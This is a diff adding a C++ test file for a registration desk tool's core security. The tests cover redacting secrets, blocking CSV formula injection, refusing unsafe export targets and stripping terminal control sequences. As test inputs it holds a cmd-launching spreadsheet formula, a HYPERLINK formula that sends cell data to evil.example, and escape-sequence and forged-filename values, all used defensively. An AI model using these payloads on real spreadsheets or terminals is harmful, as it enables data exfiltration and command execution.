@@ -1,0 +1,141 @@
+// The desk's core on its own, against hostile values: a secret never kept in a reason, a
+// spreadsheet export that runs nothing and never overwrites the database, terminal output
+// without control sequences, and a database that only an import creates, also twice at once.
+#include <gtest/gtest.h>
+
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include <algorithm>
+#include <filesystem>
+#include <sstream>
+
+#include "desk/Export.h"
+#include "desk/Printable.h"
+#include "tests/support/desk_db_fixture.h"
+#include "tests/support/sample_record.h"
+
+namespace fs = std::filesystem;
+
+namespace {
+
+class CoreTest : public DeskDbTest {
+protected:
+    // Sample registration `n` as an importer would hand it over.
+    static desk::Registration Sample(int n, const std::string& key, std::vector<std::string> reasons = {}) {
+        desk::Registration r;
+        r.record = corpus::SampleRecord(n);
+        r.channel = "mail";
+        r.dedupKey = key;
+        r.reviewReasons = std::move(reasons);
+        return r;
+    }
+    void Add(const desk::Registration& r) {
+        desk::CDatabase db(db_.string());
+        db.Add(r);
+    }
+};
+
+}  // namespace
+
+TEST_F(CoreTest, TheStoreCutsASecretOutOfAnyReasonItIsGiven) {
+    const desk::Registration r = Sample(5, "guard");
+    Add(Sample(5, "guard", {"password_1: \"" + r.record.password_1 + "\" could as well be \"x\"", "zip: missing"}));
+    const std::vector<desk::StoredRegistration> rows = Rows();
+    ASSERT_EQ(1u, rows.size());
+    EXPECT_EQ("password_1: \"***\" could as well be \"x\"", rows[0].reviewReasons.at(0));
+    EXPECT_EQ("zip: missing", rows[0].reviewReasons.at(1));
+}
+
+TEST_F(CoreTest, TheCsvExportRunsNoFormulaAndNeverOverwritesTheDatabase) {
+    for (const char* formula : {"-2+3+cmd|' /C calc'!A0", "+1+HYPERLINK(\"http://evil.example/?\"&A1)", "=1+1",
+                                "@SUM(A1)", "\tx", "\rx", "-", "+", "+49 221 x"}) {
+        const std::string cell = desk::CsvCell(formula, ';');
+        EXPECT_EQ('\'', cell[cell[0] == '"' ? 1 : 0]) << formula;
+    }
+    for (const char* phone : {"+49 (221) 123-45/67", "-5", "0221 123456", "1+1"}) EXPECT_EQ(phone, desk::CsvCell(phone, ';'));
+
+    Add(Sample(1, "mail"));
+    int status = -1;
+    for (const std::string& target : {db_.string(), db_.string() + "-wal", (dir_ / "." / "desk.db").string()}) {
+        const std::string out = RunCli("export --csv " + target, &status);
+        EXPECT_EQ(1, status) << out;
+        EXPECT_NE(std::string::npos, out.find("is the database or one of its files")) << out;
+    }
+    EXPECT_EQ(1u, Rows().size());
+
+    // Personal data for its owner only, and a link at the target replaced, not written through.
+    const fs::path elsewhere = Write("elsewhere.txt", "untouched");
+    fs::create_symlink(elsewhere, dir_ / "export.csv");
+    RunCli("export --csv " + (dir_ / "export.csv").string(), &status);
+    EXPECT_EQ(0, status);
+    EXPECT_FALSE(fs::is_symlink(dir_ / "export.csv"));
+    EXPECT_EQ(fs::perms::owner_read | fs::perms::owner_write, fs::status(dir_ / "export.csv").permissions());
+    std::ifstream kept(elsewhere);
+    EXPECT_EQ("untouched", std::string(std::istreambuf_iterator<char>(kept), {}));
+}
+
+
+TEST_F(CoreTest, NothingPrintedCarriesControlSequencesFromValuesOrFileNames) {
+    EXPECT_EQ("a ]0;x  b", desk::Printable("a\x1b]0;x\x07\nb"));
+    EXPECT_EQ("?2J ? ?evil ?", desk::Printable("\xC2\x9B" "2J \xC2\x9D \xE2\x80\xAE" "evil \x9B"));
+    EXPECT_EQ("Gr\xC3\xB6\xC3\x9F" "e", desk::Printable("Gr\xC3\xB6\xC3\x9F" "e"));
+
+    desk::Registration r;
+    r.record = corpus::SampleRecord(2);
+    r.record.vorname = "\xC2\x9B" "2J\xE2\x80\xAE";
+    r.record.city = "K\xC3\xB6ln\x1b]0;pwn\x07";
+    r.channel = "mail";
+    r.sourceFile = "x\x1b[2Jy";
+    r.dedupKey = "controls";
+    r.reviewReasons = {"firm: \xC2\x9B" "31m"};
+    desk::CDatabase db(db_.string());
+    db.Add(r);
+    std::ostringstream out;
+    desk::ListRegistrations(db, false, out);
+    desk::ShowRegistration(*db.Find(1), false, out);
+    for (const char* control : {"\x1b", "\xC2\x9B", "\xE2\x80\xAE", "\x07"})
+        EXPECT_EQ(std::string::npos, out.str().find(control)) << out.str();
+
+    // A file whose name forges a second line of velkdesk's own gets one error line.
+    const fs::path forged = Write("x\x1b]0;pwn\x07\nvelkdesk: forged.eml", "no mail");
+    int status = -1;
+    const std::string errors = RunCli("import '" + forged.string() + "'", &status);
+    EXPECT_EQ(1, status);
+    EXPECT_EQ(std::string::npos, errors.find("\nvelkdesk: forged.eml")) << errors;
+    EXPECT_EQ(std::string::npos, errors.find('\x1b')) << errors;
+}
+
+
+TEST_F(CoreTest, OnlyImportMakesADatabaseAndTwoMayMakeItAtOnce) {
+    int status = -1;
+    for (const char* command : {"list", "show 1", "export"}) {
+        const std::string out = RunCli(command, &status);
+        EXPECT_EQ(1, status) << command;
+        EXPECT_NE(std::string::npos, out.find("no such database")) << out;
+    }
+    EXPECT_FALSE(fs::exists(db_));
+
+    // Switching a new file to WAL once failed at once for the second of two openers.
+    for (int run = 0; run < 12; ++run) {
+        const fs::path fresh = dir_ / ("race" + std::to_string(run) + ".db");
+        pid_t children[2];
+        for (pid_t& child : children) {
+            child = fork();
+            if (child == 0) {
+                try {
+                    desk::CDatabase db(fresh.string());
+                    _exit(0);
+                } catch (const std::exception&) {
+                    _exit(1);
+                }
+            }
+        }
+        for (pid_t child : children) {
+            int childStatus = -1;
+            waitpid(child, &childStatus, 0);
+            EXPECT_TRUE(WIFEXITED(childStatus) && WEXITSTATUS(childStatus) == 0) << "run " << run;
+        }
+    }
+}
